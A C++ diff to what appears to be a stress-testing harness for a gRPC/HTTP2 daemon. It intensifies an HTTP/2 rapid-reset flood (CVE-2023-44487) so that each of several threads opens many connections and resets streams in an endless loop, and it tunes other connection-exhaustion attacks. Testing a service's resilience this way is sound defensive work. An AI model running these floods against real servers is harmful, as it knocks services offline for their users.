@@ -155,7 +155,7 @@ class PeerConnection {
     }
     return stub_;
   }
-  // This connection has ended. Does nothing if there is a newer one.
+  // The next stream needs a new connection. Does nothing if there is a newer one.
   void Ended(const std::shared_ptr<v1::Peer::Stub>& stub) {
     const std::lock_guard<std::mutex> lock(mutex_);
     if (stub_ == stub) stub_ = nullptr;
@@ -213,8 +213,7 @@ void PeerStreams(const Target& target, bool greet, const PeerStreamCounts& count
       if (end.error_message().find("as many as one") != std::string::npos) {
         std::call_once(full, [] { std::cout << "READY" << std::endl; });
       }
-      const bool alone = counts.per_connection == 1;
-      if (alone || end.error_code() == grpc::StatusCode::UNAVAILABLE) connection.Ended(stub);
+      connection.Ended(stub);  // the daemon allows a connection few calls
       std::this_thread::sleep_for(counts.pause);
     }
   });
@@ -281,8 +280,19 @@ void OnConnections(int connections, const Connect& connect,
 }
 
 // Opens calls and resets them at once, as fast as it can (CVE-2023-44487).
-void Reset(const Connect& connect, const std::string& method) {
-  OnConnections(8, connect, [&](RawHttp2* connection) { connection->OpenAndReset(method, 100); });
+void Reset(const Connect& connect, const std::string& method, int connections_of_thread = 1) {
+  OnThreads(8, [&](int, const Begun& begun) {
+    for (;;) {
+      std::vector<RawHttp2> connections;
+      for (int i = 0; i < connections_of_thread; ++i) connections.push_back(connect());
+      for (bool any = true; any; begun()) {
+        any = false;
+        for (RawHttp2& one : connections) any |= one.connected() && one.OpenAndReset(method, 100);
+      }
+      begun();  // all may have been refused
+      std::this_thread::sleep_for(kPace);
+    }
+  });
 }
 
 // Sends frames that mean nothing.
@@ -448,7 +458,7 @@ Attacks ConnectionAttacks() {
         kOnPeerPort}},
       {"peer_greeted_streams",
        {[](const Target& t) {
-          PeerStreams(t, /*greet=*/true, {276, 69, std::chrono::milliseconds(50)});
+          PeerStreams(t, /*greet=*/true, {276, 46, std::chrono::milliseconds(50)});
         },
         kOnPeerPort}},
       {"peer_strangers", {PeerStrangers, kOnPeerPort, /*across=*/false, /*on_victim=*/true}},
@@ -456,8 +466,9 @@ Attacks ConnectionAttacks() {
       {"reset_sessions", {[](const Target& t) { Reset(ToSocket(t), kSession); }}},
       {"reset_questions", {[](const Target& t) { Reset(ToSocket(t), kHealth); }}},
       {"reset_unknown", {[](const Target& t) { Reset(ToSocket(t), kUnknown); }}},
-      {"peer_reset_attach", {[](const Target& t) { Reset(ToPeer(t), kAttach); }, kOnPeerPort}},
-      {"peer_reset_unknown", {[](const Target& t) { Reset(ToPeer(t), kUnknown); }, kOnPeerPort}},
+      {"peer_reset_attach", {[](const Target& t) { Reset(ToPeer(t), kAttach, 32); }, kOnPeerPort}},
+      {"peer_reset_unknown",
+       {[](const Target& t) { Reset(ToPeer(t), kUnknown, 32); }, kOnPeerPort}},
       {"headers", {[](const Target& t) { Headers(ToSocket(t), kSession); }}},
       {"indexed_headers", {[](const Target& t) { IndexedHeaders(ToSocket(t), kSession); }}},
       {"indexed_calls", {[](const Target& t) { IndexedCalls(ToSocket(t), "x", 1); }}},
